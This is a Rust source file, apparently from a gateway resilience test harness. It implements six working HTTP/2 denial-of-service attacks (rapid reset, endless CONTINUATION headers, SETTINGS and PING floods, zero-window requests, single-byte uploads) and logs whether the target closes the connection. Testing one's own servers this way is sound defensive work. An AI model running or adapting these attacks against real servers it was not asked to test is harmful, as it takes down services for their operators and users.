//! Hostile HTTP/2, frame by frame, one connection at a time.

use std::time::Duration;

use anyhow::Result;
use clap::{Args, ValueEnum};
use serde::{Deserialize, Serialize};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::time::{Instant, timeout_at};

use super::Common;
use super::frames::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, GOAWAY, HEADERS, PING, RST_STREAM, SETTINGS,
    block, frame, hello, take_kinds,
};
use crate::clock::now;
use crate::ledger;
use crate::message::{BYTES, ID};

/// The attacks, by the names they are known by.
#[derive(Clone, Copy, Debug, Deserialize, PartialEq, Eq, Serialize, ValueEnum)]
#[serde(rename_all = "snake_case")]
pub(crate) enum Kind {
    /// 10,000 streams, each opened and reset at once.
    RapidReset,
    /// A header block that never ends.
    Continuation,
    /// Settings, each to be acknowledged.
    Settings,
    /// Pings, each to be answered.
    Ping,
    /// Large answers asked for and not taken.
    ZeroWindow,
    /// An upload of single bytes.
    TinyData,
}

#[derive(Args, Clone, Debug)]
pub(crate) struct Arguments {
    #[command(flatten)]
    common: Common,
    #[arg(long)]
    kind: Kind,
    /// Frames, or streams, to send at most.
    #[arg(long)]
    count: u32,
}

/// How an attack ended.
#[derive(Clone, Copy, Debug, Deserialize, Serialize)]
pub(crate) struct Attacked {
    pub(crate) kind: Kind,
    /// Units that could be sent before the gateway ended the connection or took no more.
    pub(crate) sent: u32,
    pub(crate) goaway: bool,
    /// The gateway ended the connection.
    pub(crate) closed: bool,
}

/// Units per write.
const BATCH: u32 = 50;

pub(super) async fn run(arguments: Arguments) -> Result<()> {
    let end = Instant::from_std(now() + Duration::from_secs_f64(arguments.common.seconds));
    let stream = TcpStream::connect(arguments.common.gateway).await?;
    stream.set_nodelay(true)?;
    let (mut reading, mut writing) = stream.into_split();
    let kind = arguments.kind;
    let mut attacked = Attacked {
        kind,
        sent: 0,
        goaway: false,
        closed: false,
    };
    let watch = async {
        let (mut buffer, mut goaway) = (Vec::new(), false);
        // Whoever does not read pings and settings waits for their answers elsewhere.
        let deaf = matches!(kind, Kind::Settings | Kind::Ping);
        if deaf {
            std::future::pending::<()>().await;
        }
        while reading
            .read_buf(&mut buffer)
            .await
            .is_ok_and(|count| count > 0)
        {
            goaway |= take_kinds(&mut buffer).contains(&GOAWAY);
            if goaway {
                break;
            }
        }
        goaway
    };
    let attack = async {
        writing
            .write_all(&hello((kind == Kind::ZeroWindow).then_some(0)))
            .await?;
        if kind == Kind::TinyData {
            let head = block("POST", "/work/tiny", &[(ID, "tiny")]);
            writing
                .write_all(&frame(HEADERS, END_HEADERS, 1, &head))
                .await?;
        }
        while attacked.sent < arguments.count {
            let batch: Vec<u8> = (0..BATCH)
                .flat_map(|n| unit(kind, attacked.sent + n))
                .collect();
            writing.write_all(&batch).await?;
            attacked.sent += BATCH;
        }
        // What was sent last is judged too.
        std::future::pending::<std::io::Result<()>>().await
    };
    let (goaway, closed) = tokio::select! {
        goaway = timeout_at(end, watch) => goaway.map_or((false, false), |goaway| (goaway, true)),
        broken = timeout_at(end, attack) => (false, broken.is_ok()),
    };
    (attacked.goaway, attacked.closed) = (goaway, closed);
    ledger::write_all(&arguments.common.ledger, &[attacked])
}

/// The n-th piece of an attack.
fn unit(kind: Kind, n: u32) -> Vec<u8> {
    let stream = 2 * n + 1;
    let id = format!("attack-{n}");
    match kind {
        Kind::RapidReset => {
            let head = block("GET", "/work/reset", &[(ID, &id)]);
            let mut bytes = frame(HEADERS, END_HEADERS | END_STREAM, stream, &head);
            bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            bytes
        }
        Kind::Continuation if n == 0 => {
            frame(HEADERS, END_STREAM, 1, &block("GET", "/work/c", &[]))
        }
        Kind::Continuation => {
            let field = format!("x-{n}");
            let filler = "f".repeat(120);
            let whole = block("GET", "/", &[(&field, &filler)]);
            // Only the last field: pseudo-fields may not come again.
            frame(
                CONTINUATION,
                0,
                1,
                &whole[whole.len() - field.len() - filler.len() - 3..],
            )
        }
        Kind::Settings => frame(SETTINGS, 0, 0, &[0, 4, 0, 0, 255, 255]),
        Kind::Ping => frame(PING, 0, 0, &u64::from(n).to_be_bytes()),
        Kind::ZeroWindow => {
            let head = block("GET", "/work/window", &[(ID, &id), (BYTES, "1000000")]);
            frame(HEADERS, END_HEADERS | END_STREAM, stream, &head)
        }
        Kind::TinyData => frame(DATA, 0, 1, b"x"),
    }
}
